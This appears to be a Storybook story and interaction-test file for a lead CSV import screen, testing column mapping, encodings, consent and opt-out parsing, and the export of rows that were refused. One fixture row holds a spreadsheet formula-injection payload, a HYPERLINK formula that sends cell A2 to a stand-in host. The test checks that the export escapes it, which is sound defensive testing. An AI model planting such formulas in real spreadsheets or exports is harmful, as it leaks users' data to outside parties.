import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, spyOn, userEvent, waitFor, within } from 'storybook/test';
import type { MockApi } from '@flowdeck/mock-api/mock-api';
import { contactedLead } from '@flowdeck/mock-api/seeds/leads';
import { LeadImportScreen } from './lead-import.screen.tsx';
import { leadImportCopy } from './lead-import-copy.ts';
import { rolesCopy } from '../platform/roles-copy.ts';

const meta = {
  title: 'Screens/Import Leads',
  component: LeadImportScreen,
  // Nothing is loaded, so nothing can fail or be empty before a file is chosen.
  tags: ['without-data'],
  parameters: { layout: 'fullscreen' },
  args: {
    listLink: <a href="#leads">All leads</a>,
    renderImported: (tags) => <a href={`#${tags.join()}`}>Show the leads</a>,
  },
} satisfies Meta<typeof LeadImportScreen>;
export default meta;
type Story = StoryObj<typeof meta>;
type Canvas = Parameters<NonNullable<Story['play']>>[0]['canvas'];

const choose = (canvas: Canvas, text: BlobPart) =>
  userEvent.upload(
    canvas.getByLabelText(leadImportCopy.choose.label),
    new File([text], 'leads.csv', { type: 'text/csv' }),
  );
const start = (canvas: Canvas) => canvas.findByRole('button', { name: /^Import \d+ leads?$/ });
const fact = (canvas: Canvas, term: string) =>
  within(canvas.getByRole('group', { name: 'Result' })).getByText(term, { selector: 'dt' })
    .nextElementSibling;

const file = [
  'E-Mail;Vorname;Nachname;Firma;Einwilligung',
  `${contactedLead.email};Grace;Murray;Hopper Compilers;`,
  'ada@analytical-engines.org;Ada;"Love; Lace";Analytical Engines;ja',
  'not an address;Nobody;"=HYPERLINK(""https://example.org/?""&A2,\n""Click"")";;',
].join('\r\n');

export const Default: Story = {};

/** A file was chosen: its columns, and the first rows as they will be imported. */
export const Submitted: Story = {
  play: async ({ canvas }) => {
    await choose(canvas, file);
    await expect(await canvas.findByLabelText('First name')).toHaveDisplayValue('Vorname');
  },
};

/** Nobody knows yet what the server says. */
export const Saving: Story = {
  play: async ({ canvas, loaded }) => {
    await choose(canvas, file);
    (loaded as { mockApi: MockApi }).mockApi.setNetwork('stalled');
    await userEvent.click(await start(canvas));
    await expect(await canvas.findByRole('progressbar')).toBeVisible();
  },
};

/** It goes on where it ended. */
export const SaveFailed: Story = {
  play: async ({ canvas, loaded }) => {
    await choose(canvas, file);
    (loaded as { mockApi: MockApi }).mockApi.setNetwork('error');
    await userEvent.click(await start(canvas));
    await expect(await canvas.findByRole('alert')).toHaveTextContent('Something went wrong');
    await expect(canvas.getByRole('button', { name: 'Continue' })).toBeEnabled();
  },
};

/** A file without rows. */
export const Invalid: Story = {
  play: async ({ canvas }) => {
    await choose(canvas, 'Email,First name\r\n');
    await expect(await canvas.findByRole('alert')).toHaveTextContent(leadImportCopy.errors.empty);
  },
};

export const AsViewer: Story = {
  globals: { role: 'viewer' },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText(rolesCopy.needs.editor)).toBeVisible();
    await expect(canvas.queryByLabelText(leadImportCopy.choose.label)).not.toBeInTheDocument();
  },
};

export const Playground: Story = { tags: ['!test'] };

/** Rows are added or merged; what is wrong with the others is said row by row. */
export const ImportsAFile: Story = {
  tags: ['behaviour'],
  play: async ({ canvas, loaded, step }) => {
    await step('Choose a file: its columns are recognised', async () => {
      await choose(canvas, file);
      await expect(await canvas.findByLabelText('Email')).toHaveDisplayValue('E-Mail');
      await expect(canvas.getByLabelText('Company')).toHaveDisplayValue('Firma');
      await expect(
        await canvas.findByText('Left out. Email: This is not an email address.'),
      ).toBeVisible();
    });
    await step('Import it', async () => {
      await userEvent.click(await start(canvas));
      await waitFor(() => expect(fact(canvas, 'Added')).toHaveTextContent('1'));
      await expect(fact(canvas, 'Updated')).toHaveTextContent('1');
      await expect(fact(canvas, 'Left out')).toHaveTextContent('1');
      await expect(
        canvas.getByRole('row', {
          name: /^4 not an address, Nobody,[^]* Left out Email: This is not/,
        }),
      ).toBeVisible();
    });
    await step('Save the rows that were left out', async () => {
      const saved = spyOn(URL, 'createObjectURL');
      spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
      await userEvent.click(
        canvas.getByRole('button', { name: leadImportCopy.result.saveRefused }),
      );
      await waitFor(() => expect(saved).toHaveBeenCalledOnce());
      const bytes = await (saved.mock.calls[0]?.[0] as Blob).arrayBuffer();
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      await expect(text).toMatch(/^\uFEFFE-Mail,.*\r\n.*"'=HYPERLINK\(/);
    });
    const { leads } = (loaded as { mockApi: MockApi }).mockApi.world.workspace;
    await expect(leads[0]).toMatchObject({
      firstName: 'Ada',
      lastName: 'Love; Lace',
      consent: 'given',
      consentText: 'Einwilligung',
    });
    await expect(leads.find(({ id }) => id === contactedLead.id)).toMatchObject({
      lastName: 'Murray',
    });
  },
};

/** A column about opting out reads the other way round, whichever field it is chosen for. */
export const ReadsOptOuts: Story = {
  tags: ['behaviour'],
  play: async ({ canvas, loaded, step }) => {
    const text = [
      'Email,First name,Newsletter consent,Unsubscribed,Phone',
      'ada@analytical-engines.org,Ada,yes,TRUE,1',
      'bob@example.org,Bob,yes,FALSE,2',
      'BOB@example.org,Bob,no,,',
      'eva@example.org,Eva,yes,perhaps,3',
      'fay@example.org,Fay,perhaps,FALSE,4',
      'gus@example.org,Gus,yes,,5',
    ].join('\n');
    await step('It says in words what each cell means', async () => {
      await choose(canvas, text);
      await expect(await canvas.findByLabelText('Opt-out')).toHaveDisplayValue('Unsubscribed');
      await expect(canvas.getByText('Refused: “TRUE” (1 row)')).toBeVisible();
      await expect(canvas.getByText('Nothing recorded: “FALSE”, empty (4 rows)')).toBeVisible();
      await expect(canvas.getByText('Not taken: Phone.')).toBeVisible();
      await expect(
        await canvas.findByText('5 leads to import, 1 merged with an earlier one, 0 left out.'),
      ).toBeVisible();
    });
    await step('It shows what will be stored, whatever a row says by itself', async () => {
      const table = within(canvas.getByRole('table'));
      await expect(table.getByRole('row', { name: /^bob.* Refused Ready/ })).toBeVisible();
    });
    await step('It reads the same if the column is chosen for Consent', async () => {
      const names = within(canvas.getByRole('table'));
      await userEvent.selectOptions(canvas.getByLabelText('Consent'), 'Unsubscribed');
      await waitFor(() => expect(names.queryByText('Agreed')).not.toBeInTheDocument());
      await expect(names.getByRole('row', { name: /^ada.* Refused Ready/ })).toBeVisible();
      await userEvent.selectOptions(canvas.getByLabelText('Consent'), 'Newsletter consent');
    });
    await step('Import it: every row is accounted for', async () => {
      await userEvent.click(canvas.getByLabelText(leadImportCopy.mapping.keepOthers));
      await userEvent.click(await start(canvas));
      await waitFor(() => expect(fact(canvas, 'Added')).toHaveTextContent('5'));
      await expect(fact(canvas, 'Merged')).toHaveTextContent('1');
      await expect(
        canvas.getByRole('row', { name: /^4 .* Merged Merged with line 3/ }),
      ).toBeVisible();
      await expect(
        canvas.getByRole('row', { name: /^6 .* Added Newsletter consent: “perhaps”/ }),
      ).toBeVisible();
    });
    const { leads } = (loaded as { mockApi: MockApi }).mockApi.world.workspace;
    const consentOf = (name: string) => leads.find(({ firstName }) => firstName === name)?.consent;
    await expect(['Ada', 'Bob', 'Eva', 'Fay', 'Gus'].map(consentOf)).toEqual([
      'refused',
      'refused',
      'unknown',
      'unknown',
      'given',
    ]);
    await expect(leads.find(({ firstName }) => firstName === 'Gus')).toMatchObject({
      note: 'Phone: 5',
    });
  },
};

/** The encoding is said, and another one can be chosen; so can the line with the names of the columns. */
export const ReadsOtherwise: Story = {
  tags: ['behaviour'],
  play: async ({ canvas, step }) => {
    const latin = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
    await step('Windows-1252', async () => {
      // In this encoding, 0x8C is Œ.
      await choose(canvas, latin('Fair 2026\nEmail;First name\nzoe@example.org;\u008cuvre'));
      await expect(await canvas.findByLabelText('Text encoding')).toHaveDisplayValue(
        /^Windows-1252/,
      );
      await expect(await canvas.findByText('Œuvre')).toBeVisible();
      await expect(canvas.getByLabelText('Column names')).toHaveDisplayValue(/^Line 2: Email/);
    });
    await step('Another encoding', async () => {
      await userEvent.selectOptions(canvas.getByLabelText('Text encoding'), 'windows-1251');
      await expect(await canvas.findByText('Њuvre')).toBeVisible();
    });
    await step('Without names', async () => {
      await userEvent.selectOptions(canvas.getByLabelText('Column names'), '-1');
      await expect(await canvas.findByLabelText('Email')).toHaveDisplayValue('Column 1');
      await expect(canvas.getByText('leads.csv: 3 rows')).toBeVisible();
    });
  },
};

/** What is no table is named, with what to do about it. */
export const RefusesOtherFiles: Story = {
  tags: ['behaviour'],
  play: async ({ canvas }) => {
    await choose(canvas, '%PDF-1.7');
    await expect(await canvas.findByRole('alert')).toHaveTextContent(leadImportCopy.errors.pdf);
  },
};

/** From the tags that all of them get, to the leads that have them. */
export const LeadsToTheLeads: Story = {
  tags: ['behaviour'],
  globals: { viewport: { value: 'w1440' } },
  play: async ({ canvas, loaded }) => {
    await choose(canvas, 'Email,Tags\nada@analytical-engines.org,fair');
    await userEvent.type(
      await canvas.findByLabelText(leadImportCopy.mapping.tagsForAll),
      'spring{Enter}',
    );
    await expect(await canvas.findByText('fair, spring')).toBeVisible();
    const { world } = (loaded as { mockApi: MockApi }).mockApi;
    await userEvent.selectOptions(
      canvas.getByLabelText(leadImportCopy.mapping.status),
      'Qualified',
    );
    await userEvent.click(await start(canvas));
    await expect(await canvas.findByRole('link', { name: 'Show the leads' })).toHaveAttribute(
      'href',
      '#spring',
    );
    await expect(world.workspace.leads[0]).toMatchObject({
      email: 'ada@analytical-engines.org',
      status: 'qualified',
    });
  },
};
